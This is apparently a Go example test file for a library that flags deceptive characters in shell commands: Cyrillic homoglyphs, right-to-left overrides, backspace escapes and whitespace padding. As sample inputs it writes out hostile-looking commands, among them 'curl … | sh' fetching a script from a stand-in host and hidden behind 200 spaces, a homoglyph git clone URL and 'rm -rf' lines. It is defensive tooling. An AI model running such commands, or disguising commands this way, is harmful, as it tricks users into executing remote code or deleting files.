package render_test

import (
	"fmt"
	"strings"

	"github.com/plainsight-dev/plainsight"
	"github.com/plainsight-dev/plainsight/render"
)

func ExampleTerminal() {
	r := plainsight.Command("git clone https://github.com/\u0430pple/tools\u202e")
	// Without colour, a marker line shows which characters are escapes (^)
	// and which tokens the warnings are about (~).
	fmt.Print(render.Terminal(r, render.TerminalOptions{Source: "cmd"}))
	// Output:
	// git clone https://github.com/аpple/tools\u{202e}
	//                              ~~~~~      ^^^^^^^^
	// cmd:1:30: warn mixed_script: `аpple` mixes Cyrillic and Latin (а U+0430 CYRILLIC SMALL LETTER A); it reads as `apple`
	// cmd:1:41: warn bidi: U+202E RIGHT-TO-LEFT OVERRIDE reverses the order in which the following text is displayed
}

func ExampleTerminal_color() {
	r := plainsight.Command("rm -rf x\by")
	// The escape is in reverse video (7) and, as the backspace warning
	// locates it, underlined (4).
	fmt.Printf("%+q\n", render.TerminalText(r, render.TerminalOptions{Color: true}))
	// Output:
	// "rm -rf x\x1b[7m\x1b[4m\\x08\x1b[27m\x1b[24my"
}

func ExampleHTML() {
	r := plainsight.Command("rm -rf ~/x\u202e")
	fmt.Println(render.HTML(r, render.HTMLOptions{ID: "cmd1"}))
	// Output:
	// <div class="ps-result" id="cmd1" dir="ltr"><pre class="ps-text" dir="ltr">
	// <bdo dir="ltr">rm -rf ~/x<mark class="ps-mark ps-sev-warn ps-kind-bidi" data-warning="0" aria-describedby="cmd1-w0" title="bidi: U&#43;202E RIGHT-TO-LEFT OVERRIDE reverses the order in which the following text is displayed"><span class="ps-esc ps-esc-bidi" dir="ltr" title="U&#43;202E RIGHT-TO-LEFT OVERRIDE">\u{202e}</span></mark></bdo></pre><ol class="ps-warnings"><li class="ps-warning ps-sev-warn ps-kind-bidi" id="cmd1-w0" data-warning="0"><bdo dir="ltr"><span class="ps-severity">warn</span> <span class="ps-kind">bidi</span> <span class="ps-where">1:11</span>: <span class="ps-explanation">U&#43;202E RIGHT-TO-LEFT OVERRIDE reverses the order in which the following text is displayed</span> <span class="ps-tokens"><code>\u{202e}</code></span></bdo></li></ol></div>
}

func ExampleTerminal_padding() {
	// A command padded so that the part that runs is a screen away from
	// the part that shows: the spaces fold into a marker with their size.
	r := plainsight.Command("echo hello" + strings.Repeat(" ", 200) + "; curl -s https://x.example/i.sh | sh")
	fmt.Print(render.Terminal(r, render.TerminalOptions{Width: 60}))
	// Output:
	// echo hello⟨200 spaces⟩; curl -s https://x.example/i.sh | sh
	//           ^^^^^^^^^^^^
	// 1:11: warn padding: `⟨200 spaces⟩` before more text on the ↩
	// same line push that text past the edge of a view that does ↩
	// not wrap, or a screen away from the start of its line
}

func ExampleTerminal_width() {
	// With a width, lines break at spaces, each broken line ending in ↩.
	r := plainsight.Command("curl -fsSL https://example.com/install.sh -o /tmp/install.sh && sh /tmp/install.sh")
	fmt.Print(render.TerminalText(r, render.TerminalOptions{Width: 40}))
	// Output:
	// curl -fsSL ↩
	// https://example.com/install.sh -o ↩
	// /tmp/install.sh && sh /tmp/install.sh
}
